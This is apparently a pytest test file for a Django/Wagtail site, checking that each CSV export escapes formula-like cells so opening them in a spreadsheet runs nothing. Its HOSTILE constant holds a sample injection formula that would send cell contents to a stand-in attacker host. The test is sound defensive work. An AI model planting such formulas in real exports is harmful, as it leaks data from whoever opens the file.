"""Every CSV export shows a formula-like cell as text, so opening it runs nothing."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Locale

from exports.spreadsheets import neutralise
from newsletter.models import Signup
from search.models import UnansweredSearch
from tests.factories import ConditionPageFactory
from translations.demo import translate_with_strings

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def export(admin_client, url):
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def cells(rows):
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_plain_values_are_unchanged():
    assert [neutralise(v) for v in ["Ana", "ana@example.org", 3, None]] == [
        "Ana",
        "ana@example.org",
        3,
        None,
    ]


def test_newsletter_signups_export_neutralises_formulas(admin_client):
    Signup.objects.create(
        first_name=HOSTILE,
        last_name="@SUM(1)",
        email="a@example.org",
        status=Signup.Status.ACTIVE,  # the export lists confirmed subscribers
    )
    row = cells(export(admin_client, reverse("newsletter_signups:index")))
    assert f"'{HOSTILE}" in row
    assert "'@SUM(1)" in row
    assert HOSTILE not in row


def test_guides_due_for_review_export_neutralises_formulas(admin_client, conditions_index):
    guide = ConditionPageFactory(title=HOSTILE, reviewed_by="+Dr Plus")
    guide.next_review_due = timezone.now().date() - datetime.timedelta(days=1)
    guide.save_revision().publish()
    row = cells(export(admin_client, reverse("review_due_report")))
    assert f"'{HOSTILE}" in row
    assert "'+Dr Plus" in row


def test_popular_searches_export_neutralises_formulas(admin_client):
    Query.get(HOSTILE).add_hit()
    row = cells(export(admin_client, reverse("search_reports:popular")))
    assert any(cell.startswith("'=") for cell in row), row


def test_searches_that_found_nothing_export_neutralises_formulas(admin_client):
    UnansweredSearch.objects.create(
        query_string="-2+3", locale=Locale.get_default(), date=timezone.now().date(), hits=1
    )
    row = cells(export(admin_client, reverse("search_reports:unanswered")))
    assert "'-2+3" in row


def test_out_of_date_translations_export_neutralises_formulas(admin_client, conditions_index):
    spanish = Locale.objects.create(language_code="es")
    guide = ConditionPageFactory(title=HOSTILE)
    translate_with_strings(guide, spanish, {}).save_revision().publish()
    guide.summary = "Changed."
    guide.save_revision().publish()
    row = cells(export(admin_client, reverse("translations:out_of_date")))
    assert f"'{HOSTILE}" in row


def test_wagtails_own_site_history_export_neutralises_formulas(admin_client, conditions_index):
    ConditionPageFactory(title=HOSTILE)
    row = cells(export(admin_client, reverse("wagtailadmin_reports:site_history")))
    assert any(cell.startswith(f"'{HOSTILE}") for cell in row), row
